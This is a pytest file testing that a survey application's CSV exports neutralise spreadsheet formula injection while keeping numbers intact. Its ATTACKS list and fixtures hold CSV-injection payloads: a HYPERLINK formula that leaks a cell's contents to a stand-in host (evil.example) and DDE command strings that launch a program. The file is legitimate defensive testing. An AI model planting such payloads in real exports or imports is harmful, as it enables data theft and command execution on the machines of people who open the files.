"""Every CSV export is safe to open in a spreadsheet: text that starts like a formula is text.

A participant, a recruiter or a researcher's import can put ``=HYPERLINK(…)`` or
``+cmd|' /C calc'!A0`` in a cell (a condition label, a run's name); Excel and LibreOffice would
run it when the export is opened. Numbers must still be numbers.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from surveys.common.files import csv_chunks, safe_cell, write_csv_atomic
from surveys.results.exports import ExportKind, csv_download
from tests.surveys.participation.fixtures import answer_all, build_study, consented

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign, a formula to some Excel locales
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [3, -3, 0, 2.5, -0.25, Decimal("-1.50"), True, None, "-3", "+1.5", "-2e3", ".5"]
)
def test_numbers_stay_numbers(value: object) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("text", ["", "Method A", "p-3f9a", "a=b", "2024-05-01", " -1"])
def test_ordinary_text_is_untouched(text: str) -> None:
    assert safe_cell(text) == text


def _live_formula(cell: str) -> bool:
    """Whether a spreadsheet would run ``cell`` (a negative number is no formula)."""
    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_streamed_and_written_csv_neutralise_every_cell(tmp_path: Path) -> None:
    rows = [[attack, -7, 1.5, "-7"] for attack in ATTACKS]
    streamed = _read("".join(csv_chunks(["=header", "n", "x", "s"], rows)))
    path = tmp_path / "out.csv"
    write_csv_atomic(path, ["=header", "n", "x", "s"], rows)
    with path.open(newline="", encoding="utf-8") as file:  # as the csv module asks
        written = _read(file.read())

    for table in (streamed, written):
        assert table[0] == ["'=header", "n", "x", "s"]
        for (cell, number, fraction, text_number), attack in zip(table[1:], ATTACKS, strict=True):
            assert cell == "'" + attack
            assert (number, fraction, text_number) == ("-7", "1.5", "-7")
        assert len(table) == 1 + len(ATTACKS), "a carriage return must not start a new row"


def test_a_carriage_return_inside_a_cell_cannot_start_a_row_of_its_own() -> None:
    table = _read("".join(csv_chunks(["note"], [["fine\r=cmd|' /C calc'!A0"], ["next"]])))
    assert table == [["note"], ["fine\r=cmd|' /C calc'!A0"], ["next"]]


@pytest.mark.django_db
def test_responses_and_stimuli_exports_carry_no_live_formula(media: Path) -> None:
    # given a study whose method labels came from a hostile import, with one answered survey
    labels = ('=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0")
    built = build_study(labels=labels, per_condition=1, cells=1)
    answer_all(consented(built.study, "WORKER-1"), score="4")

    for kind in (ExportKind.RESPONSES, ExportKind.STIMULI):
        # when the researcher downloads the table
        _, chunks = csv_download(built.study, kind)
        table = _read("".join(chunks))

        # then no cell starts like a formula, and the labels are there as text
        cells = [cell for row in table for cell in row]
        assert not [cell for cell in cells if _live_formula(cell)]
        assert {"'" + label for label in labels} <= set(cells)

    # and the scores are still plain numbers
    _, chunks = csv_download(built.study, ExportKind.RESPONSES)
    answers = list(csv.DictReader(io.StringIO("".join(chunks))))
    assert answers and {row["score"] for row in answers} == {"4"}
